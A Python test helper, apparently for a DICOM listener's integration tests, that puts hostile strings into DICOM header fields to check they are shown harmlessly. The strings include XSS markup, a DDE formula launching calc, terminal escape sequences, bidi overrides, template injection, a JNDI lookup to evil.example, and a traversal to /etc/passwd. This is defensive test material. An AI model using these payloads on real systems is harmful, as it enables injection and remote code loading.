"""Header values that harm whoever shows them as they are, instances that bear them, and what is harmless to show."""

from __future__ import annotations

import unicodedata
import warnings

from pydicom.dataset import Dataset

from tests.integration.listener.conftest import make_instance

HOSTILE = {
    "markup": '<script>alert(1)</script><img src=x onerror=alert(2)>"\'><b>',
    "formula": "=cmd|' /C calc'!A0",
    "escape": "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b[8m",
    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "rich": "[bold red]bold[/bold red] [link=https://evil.example/]click[/link]",
    "override": "left\u202eright\u2066isolated\u2069\u200b\u2028line",
    "template": "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/}",
    "traversal": "../../../../etc/passwd",
    "huge": "A" * 60_000,
}
# Where a header says what reports show, and what no check lets pass.
SPOILED = (
    "Manufacturer", "ManufacturerModelName", "SoftwareVersions", "SeriesDescription", "ProtocolName",
    "DeviceSerialNumber", "SequenceName", "ImagedNucleus", "ContrastBolusAgent",
)  # fmt: skip
FORMULA = ("=", "+", "-", "@", "\t", "\r")
ALLOWED = {"\n", "\r"}


def is_tame(text: str) -> bool:
    """Nothing that a terminal obeys or that turns text around: no control, format, surrogate, line separator."""
    return all(c in ALLOWED or unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp") for c in text)


def hostile_instance(text: str, **elements: str) -> Dataset:
    """An instance with one hostility in every value that is shown, and in some that no check lets pass."""
    ds = make_instance(**elements)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ds.SpecificCharacterSet = "ISO_IR 192"
        for keyword in SPOILED:
            setattr(ds, keyword, text)
        for tag in (0x00080008, 0x00080020, 0x00080030, 0x00180020, 0x00180081, 0x00185100):
            ds.add_new(tag, "LO", text)  # dates, codes and numbers: under their own VR pydicom would not write it
    return ds
